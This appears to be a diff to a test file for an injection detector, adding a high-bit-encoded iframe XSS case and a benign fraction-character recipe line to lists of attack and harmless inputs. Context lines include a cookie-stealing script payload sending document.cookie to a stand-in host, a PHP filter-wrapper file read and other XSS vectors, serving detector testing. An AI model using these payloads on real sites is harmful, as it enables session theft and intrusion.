@@ -113,6 +113,7 @@ POSITIVES = [
     (path_traversal, "php filter wrapper", "php://filter/convert.base64-encode/resource=index.php"),
     (path_traversal, "windows absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
     # xss
+    (xss, "tag with the high bit set (US-ASCII on IE)", "\xbciframe src=javascript:x\xbe"),
     (xss, "script tag", "<script>fetch('//e.test/'+document.cookie)</script>"),
     (xss, "img onerror", "<img src=x onerror=alert(1)>"),
     (xss, "svg onload no spaces", "<svg/onload=confirm`1`>"),
@@ -226,6 +227,7 @@ NEGATIVES = [
     "Discounts of 5%-10% and 2%e off: 15%a%b",
     "Done; drop it. Call mom(again) later; load data from the disk; drop me a line",
     "Salmon spawn('river') season; check_call('mom') later",
+    "Add \xbc cup of sugar, stir \xbe of the way, \xbcthen\xbe bake",
     "Press '*' then '#', or type 'and' / 'or' to combine terms",
     "Guns N' Roses - 'Appetite' (1987), Smith's - Jones' store",
     "It's 3' x 5' and costs 2' / 3' of the old one",
